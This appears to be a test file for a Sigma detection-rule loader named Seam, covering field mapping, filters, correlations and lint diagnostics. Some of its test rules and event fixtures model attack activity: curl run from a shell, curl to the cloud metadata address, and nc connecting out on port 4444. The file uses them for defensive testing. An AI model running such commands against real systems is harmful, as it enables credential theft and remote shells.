    expect(loadRulesFromText(win, 'w.yml').ruleset.match(audit({}))).toHaveLength(0);
    expect(loadRulesFromText(win, 'w.yml', { matchUnmapped: true }).ruleset.match(audit({}))).toHaveLength(1);
  });
});

describe('runtime field mapping', () => {
  it('maps Sigma taxonomy names onto runtime fields', () => {
    const rule = `title: Shell in container
id: 44444444-2222-4333-8444-555555555555
logsource:
    category: process_creation
    product: linux
detection:
    selection:
        Image|endswith: '/bash'
        CommandLine|contains: 'curl'
    condition: selection
`;
    const { ruleset } = loadRulesFromText(rule, 'rt.yml');
    const ev = { '@timestamp': 'x', kind: 'process', process: { exe: '/bin/bash', cmdline: 'bash -c curl x' }, seam: { id: 'r', source: 'runtime', ingest } } as SeamEvent;
    expect(ruleset.match(ev)).toHaveLength(1);
  });

  const runtime = (kind: string, body: Record<string, unknown>): SeamEvent =>
    ({ '@timestamp': 'x', schema: 'seam.runtime/v1', kind, ...body, seam: { id: 'r', source: 'runtime', ingest } }) as SeamEvent;

  it('maps ParentImage and ParentProcessId onto the fields seam.runtime/v1 has', () => {
    const rule = `title: Shell spawned by the app
id: 44444444-2222-4333-8444-555555555556
logsource:
    category: process_creation
    product: linux
detection:
    selection:
        ParentImage|endswith: '/orders-api'
        ParentProcessId: 7
    condition: selection
`;
    const { ruleset } = loadRulesFromText(rule, 'rt.yml');
    expect(ruleset.match(runtime('process', { process: { pid: 9, ppid: 7, exe: '/bin/sh', parent_exe: '/usr/local/bin/orders-api' } }))).toHaveLength(1);
    expect(ruleset.match(runtime('process', { process: { pid: 9, ppid: 8, exe: '/bin/sh', parent_exe: '/usr/local/bin/orders-api' } }))).toHaveLength(0);
  });

  it('restricts a runtime rule to the event kind of its category', () => {
    const rules = [
      ['process_creation', "Image|endswith: '/curl'"],
      ['network_connection', "Image|endswith: '/curl'"],
      ['file_event', "TargetFilename|startswith: '/tmp/'"],
      ['dns_query', "QueryName|endswith: '.amazonaws.com'"],
    ]
      .map(
        ([category, sel], i) => `title: ${category}
id: 44444444-2222-4333-8444-55555555556${i}
logsource:
    category: ${category}
    product: linux
detection:
    selection:
        ${sel}
    condition: selection
`,
      )
      .join('---\n');
    const { ruleset } = loadRulesFromText(rules, 'rt.yml');
    const proc = { pid: 3, exe: '/usr/bin/curl', cmdline: 'curl http://169.254.170.23/' };
    const titles = (ev: SeamEvent): string[] => ruleset.match(ev).map((m) => m.rule.title);
    expect(titles(runtime('process', { process: proc }))).toEqual(['process_creation']);
    // A connection made by curl carries the process context, but is not a process creation.
    expect(titles(runtime('network', { process: proc, network: { direction: 'egress', protocol: 'tcp', src_ip: '10.0.0.1', dst_ip: '169.254.170.23' } }))).toEqual([
      'network_connection',
    ]);
    expect(titles(runtime('file', { process: proc, file: { op: 'create', path: '/tmp/x' } }))).toEqual(['file_event']);
    expect(titles(runtime('dns', { process: proc, dns: { query: 'sts.us-west-2.amazonaws.com' } }))).toEqual(['dns_query']);
    // rule.test() applies the same restriction.
    const proc1 = ruleset.rules.find((r) => r.title === 'process_creation')!;
    expect(proc1.test(runtime('network', { process: proc }))).toBe(false);
    expect(proc1.test(runtime('process', { process: proc }))).toBe(true);
  });

  it("maps Sigma's Initiated onto the runtime schema's direction (egress = initiated)", () => {
    const rule = (i: number, sel: string): string => `title: initiated ${i}
id: 44444444-2222-4333-8444-55555555557${i}
logsource:
    category: network_connection
    product: linux
detection:
    selection:
${sel}
    condition: selection
`;
    const rules = [
      rule(0, "        Initiated: 'true'\n        DestinationPort: 4444"),
      rule(1, '        Initiated: true'),
      rule(2, "        Initiated: 'false'"),
      rule(3, "        Initiated|neq: 'true'"),
    ].join('---\n');
    const { ruleset, diagnostics } = loadRulesFromText(rules, 'rt.yml');
    expect(diagnostics.filter((d) => d.severity === 'error')).toEqual([]);
    const conn = (direction: string): SeamEvent =>
      runtime('network', { process: { pid: 3, exe: '/usr/bin/nc' }, network: { direction, protocol: 'tcp', src_ip: '10.0.0.1', dst_ip: '203.0.113.9', dst_port: 4444 } });
    const titles = (ev: SeamEvent): string[] => ruleset.match(ev).map((m) => m.rule.title);
    expect(titles(conn('egress'))).toEqual(['initiated 0', 'initiated 1']);
    expect(titles(conn('ingress'))).toEqual(['initiated 2', 'initiated 3']);
  });

  it('leaves Sigma fields the runtime schema lacks unmapped, so they are never matched against invented fields', () => {
    for (const f of ['DestinationHostname', 'OriginalFileName', 'SourceFilename', 'ContainerId']) expect(RUNTIME_FIELD_MAP[f], f).toBeUndefined();
    // Every mapped target is a field of seam.runtime/v1.
    const top = RuntimeEvent.shape as unknown as Record<string, { unwrap?: () => { shape: Record<string, unknown> } }>;
    for (const target of Object.values(RUNTIME_FIELD_MAP)) {
      const [obj, field] = target.split('.') as [string, string | undefined];
      const known = field === undefined ? Object.hasOwn(top, obj) : Object.hasOwn(top[obj]?.unwrap?.().shape ?? {}, field);
      expect(known, target).toBe(true);
    }
  });
});

describe('meta-filters', () => {
  const bundle = `title: Access key created
id: 55555555-2222-4333-8444-555555555555
name: access_key_created
level: medium
logsource:
    product: aws
    service: cloudtrail
detection:
    selection:
        eventName: CreateAccessKey
    condition: selection
---
title: Ignore the automation user
logsource:
    product: aws
    service: cloudtrail
filter:
    rules:
        - access_key_created
    selection:
        requestParameters.userName: automation
    condition: not selection
`;
  it("ANDs the filter's condition as written (Sigma spec, pySigma): `not selection` leaves the selected events out", () => {
    const { ruleset, stats, diagnostics } = loadRulesFromText(bundle, 'f.yml');
    // Lint says where a filter narrows a rule (issue 11: a filter must never blind a rule silently).
    expect(diagnostics.map((d) => [d.code, d.severity])).toEqual([['SEAM_ERR_RULE_SUPPRESSED', 'warning']]);
    expect(stats).toMatchObject({ rules: 1, filters: 1, rejected: 0 });
    // The rule becomes `selection and (not filter_selection)`: the automation user's event raises nothing.
    expect(ruleset.match(ct({ requestParameters: { userName: 'automation' } }))).toHaveLength(0);
    expect(ruleset.match(ct({ requestParameters: { userName: 'alice' } }))).toHaveLength(1);
    expect(ruleset.match(ct({}))).toHaveLength(1);
    expect(ruleset.rules[0]!.filteredBy).toEqual(['f.yml']);
  });
  it('a filter whose condition has no `not` on top keeps only what it selects, and lint says so', () => {
    const b = bundle.replace('condition: not selection', 'condition: selection');
    const { ruleset, diagnostics } = loadRulesFromText(b, 'f.yml');
    expect(ruleset.match(ct({ requestParameters: { userName: 'automation' } }))).toHaveLength(1);
    expect(ruleset.match(ct({}))).toHaveLength(0);
    expect(diagnostics).toContainEqual(
      expect.objectContaining({ code: 'SEAM_ERR_RULE_SCHEMA', severity: 'warning', line: 22, message: expect.stringContaining("to leave events out, write `not selection`") }),
    );
  });
  it('`rules: any` narrows every rule the logsource covers, and only those', () => {
    const other = `---
title: Audit delete
id: 55555555-2222-4333-8444-555555555556
logsource:
    product: kubernetes
    service: audit
detection:
    selection:
        verb: delete
    condition: selection
`;
    const b = bundle.replace('        - access_key_created\n', '').replace('    rules:\n', '    rules: any\n') + other;
    const { ruleset, diagnostics } = loadRulesFromText(b, 'f.yml');
    expect(diagnostics.filter((d) => d.code === 'SEAM_ERR_RULE_SUPPRESSED').map((d) => d.message)).toEqual([
      'filter (rules: any) narrows 1 rule, every one its logsource covers: only events its condition matches raise alerts',
    ]);
    expect(ruleset.match(ct({ requestParameters: { userName: 'automation' } }))).toHaveLength(0);
    expect(ruleset.match(ct({}))).toHaveLength(1);
    expect(ruleset.rules.map((r) => r.filteredBy)).toEqual([['f.yml'], undefined]);
  });
  it('tells an exclusion-shaped filter condition from one that keeps only what it selects, from the parsed condition', () => {
    for (const c of ['not selection', 'not (a or b)', 'NOT (a or b)', 'not a and not b', '(not a) and not 1 of b*', 'not a or not b', 'not a and (not b and not c)', '((not a))', 'not all of them']) {
      expect(exclusionShaped(c), c).toBe(true);
    }
    // `notable` and `nothing` are identifiers, not `not` followed by something; `a and not b` keeps the events `a` selects.
    for (const c of ['selection', 'a', 'notable', 'nothing and not b', 'a and not b', 'not a or b', '1 of sel*', '(a)', 'not a and b', '(not a and not b) or c']) {
      expect(exclusionShaped(c), c).toBe(false);
    }
    // A condition that does not parse is the compiler's error, not a shape to judge.
    for (const c of ['not (a', 'a and', '']) expect(exclusionShaped(c), c).toBeUndefined();
  });
  it('warns on a filter condition by its shape through the loader: an identifier named `notable` is no negation', () => {
    const shape = (cond: string, name = 'selection'): string[] =>
      loadRulesFromText(bundle.replace('    selection:\n        requestParameters', `    ${name}:\n        requestParameters`).replace('condition: not selection', `condition: ${cond}`), 'f.yml')
        .diagnostics.filter((d) => d.code !== 'SEAM_ERR_RULE_SUPPRESSED')
        .map((d) => `${d.line} ${d.severity} ${d.code} ${d.message}`);
    expect(shape('notable', 'notable')).toEqual(['22 warning SEAM_ERR_RULE_SCHEMA filter condition \'notable\' keeps only the events it selects (the rule becomes `rule and (notable)`); to leave events out, write `not notable`']);
    expect(shape('not notable', 'notable')).toEqual([]);
    expect(shape('not (notable or notable)', 'notable')).toEqual([]);
    expect(shape('notable and not notable', 'notable')).toEqual([
      '22 warning SEAM_ERR_RULE_SCHEMA filter condition \'notable and not notable\' keeps only the events it selects (the rule becomes `rule and (notable and not notable)`); to leave events out, write `not (notable and not notable)`',
    ]);
    // A condition that does not parse: the compiler's error only, no shape warning beside it.
    const broken = shape('not (notable', 'notable');
    expect(broken).toHaveLength(1);
    expect(broken[0]).toMatch(/ error /);
  });
  it('unknown targets are reported with a position', () => {
    const b = bundle.replace('- access_key_created', '- no_such_rule');
    const { diagnostics } = loadRulesFromText(b, 'f.yml');
    expect(diagnostics).toEqual([expect.objectContaining({ code: 'SEAM_ERR_RULE_REFERENCE', line: 19, column: 11, severity: 'warning' })]);
  });
});

describe('correlations', () => {
  it('are parsed, validated for the basics and handed over with positions', () => {
    const text = `title: Many failed logins
id: 66666666-2222-4333-8444-555555555555
name: failed_login
logsource:
    product: aws
    service: cloudtrail
detection:
    selection:
        eventName: ConsoleLogin
        errorMessage: Failed authentication
    condition: selection
---
title: Brute force
id: 77777777-2222-4333-8444-555555555555
correlation:
    type: event_count
    rules:
        - failed_login
    group-by:
        - sourceIPAddress
    timespan: 10m
    condition:
        gte: 10
---
title: Broken
correlation:
    type: event_sum
    rules: []
`;
    const { ruleset, stats, diagnostics } = loadRulesFromText(text, 'c.yml');
    expect(stats).toMatchObject({ rules: 1, correlations: 1, rejected: 1 });
    expect(ruleset.correlations).toEqual([
      expect.objectContaining({ id: '77777777-2222-4333-8444-555555555555', file: 'c.yml', line: 13, column: 1 }),
    ]);
    expect((ruleset.correlations[0]!.doc as { correlation: { timespan: string } }).correlation.timespan).toBe('10m');
    expect(ruleset.rules[0]!.name).toBe('failed_login');
    const errs = diagnostics.filter((d) => d.severity === 'error');
    expect(errs.map((d) => [d.line, d.code])).toEqual([
      [27, 'SEAM_ERR_RULE_SCHEMA'], // unknown type
      [28, 'SEAM_ERR_RULE_SCHEMA'], // empty rules
      [27, 'SEAM_ERR_RULE_SCHEMA'], // no timespan (reported at the correlation map)
    ]);
  });
});

describe('diagnostics', () => {
  it('carry code, line and column, and loading continues past bad documents', () => {
    const text = `title: Bad modifier
id: 88888888-2222-4333-8444-555555555555
logsource:
    product: aws
    service: cloudtrail
detection:
    selection:
        eventName|startwith: Create
    condition: selection
---
title: Bad condition
logsource:
    product: aws
    service: cloudtrail
detection:
    selection:
        eventName: x
    condition: selection and (
---
title: Undefined identifier
logsource:
    product: aws
    service: cloudtrail
detection:
    selection:
        eventName: x
    condition: selection or missing
---
title: Bad regex
logsource:
    product: aws
    service: cloudtrail
detection:
    selection:
        eventName|re: '(['
    condition: selection
---
logsource:
    product: aws
detection:
    selection:
        eventName: x
    condition: selection
---
title: Good
id: 99999999-2222-4333-8444-555555555555
logsource:
    product: aws
    service: cloudtrail
detection:
    selection:
        eventName: CreateAccessKey
    condition: selection
---
title: Duplicate
id: 99999999-2222-4333-8444-555555555555
logsource:
    product: aws
    service: cloudtrail
detection:
    selection:
        eventName: x
    condition: selection
`;
    const { ruleset, diagnostics, stats } = loadRulesFromText(text, 'bad.yml');
    // A duplicate id costs both documents (neither may stand in for the other), reported at both.
    expect(stats).toMatchObject({ files: 1, rules: 0, rejected: 7 });
    expect(ruleset.rules.map((r) => r.title)).toEqual([]);
    // (Each also has no level: a warning, left out here.)
    expect(diagnostics.filter((d) => !d.message.startsWith("no 'level'")).map((d) => [d.code, d.line, d.column])).toEqual([
      ['SEAM_ERR_RULE_MODIFIER', 8, 9],
      ['SEAM_ERR_RULE_CONDITION', 18, 31],
      ['SEAM_ERR_RULE_REFERENCE', 27, 29],
      ['SEAM_ERR_RULE_REGEX', 35, 23],
      ['SEAM_ERR_RULE_SCHEMA', 38, 1],
      ['SEAM_ERR_RULE_DUPLICATE', 45, 1],
      ['SEAM_ERR_RULE_DUPLICATE', 55, 1],
    ]);
    // One clash in one file: each place names the other by line and column.
    expect(diagnostics.filter((d) => d.code === 'SEAM_ERR_RULE_DUPLICATE').map((d) => d.message.split(':').slice(0, 3).join(':'))).toEqual([
      "id '99999999-2222-4333-8444-555555555555' is also used at bad.yml:55:1",
      "id '99999999-2222-4333-8444-555555555555' is also used at bad.yml:45:1",
    ]);
  });
  it('reports YAML errors with a position', () => {
    const { diagnostics, stats } = loadRulesFromText('title: x\ndetection: [unclosed\n', 'y.yml');
    expect(stats.rejected).toBe(1);
    expect(diagnostics[0]).toMatchObject({ code: 'SEAM_ERR_RULE_YAML', file: 'y.yml' });
    expect(diagnostics[0]!.line).toBeGreaterThan(0);
  });
});

describe('metadata that changes how a rule runs', () => {
  const rule = (extra: string): string =>
    `title: Access key created\nid: 55555555-2222-4333-8444-555555555557\nlogsource:\n    product: aws\n    service: cloudtrail\ndetection:\n    selection:\n        eventName: CreateAccessKey\n    condition: selection\n${extra}`;
  const schema = (text: string): string[] => loadRulesFromText(text, 'r.yml').diagnostics.filter((d) => d.code === 'SEAM_ERR_RULE_SCHEMA').map((d) => `${d.line}:${d.column} ${d.severity} ${d.message}`);
  it('warns for a missing level (it runs as medium, as coverage counts it) and for a misspelt top-level key', () => {
    expect(schema(rule('level: high\n'))).toEqual([]);
    expect(schema(rule('levle: high\n'))).toEqual([
      "10:1 warning unknown top-level key 'levle' (did you mean \"level\"?): Seam ignores it",
      "1:1 warning no 'level': the rule runs as medium (a person should look) and counts against the noise budget; set one of informational, low, medium, high, critical",
    ]);
    const { ruleset } = loadRulesFromText(rule('levle: high\n'), 'r.yml');
    expect(ruleset.rules[0]!.level).toBeUndefined();
  });
  it('knows every Sigma 2.1 key and SigmaHQ\'s own, and names the list for a custom key', () => {
    expect(schema(rule('level: low\nlicense: DRL-1.1\nscope:\n    - server\ntaxonomy: sigma\nregression_tests_path: tests/x.yml\nsimulation:\n    - type: atomic-red-team\n'))).toEqual([]);
    expect(schema(rule('level: low\nowner: team-a\n'))).toEqual([expect.stringMatching(/^11:1 warning unknown top-level key 'owner': Seam ignores it \(Sigma 2\.1 keys: title, id, /)]);
  });
  it('warns that a deprecated or unsupported rule still runs', () => {
    expect(schema(rule('level: low\nstatus: deprecated\n'))).toEqual([expect.stringMatching(/^11:9 warning status 'deprecated': Seam loads and runs the rule anyway/)]);
    expect(schema(rule('level: low\nstatus: unsupported\n'))).toEqual([expect.stringMatching(/^11:9 warning status 'unsupported'/)]);
    expect(schema(rule('level: low\nstatus: test\n'))).toEqual([]);
  });
});
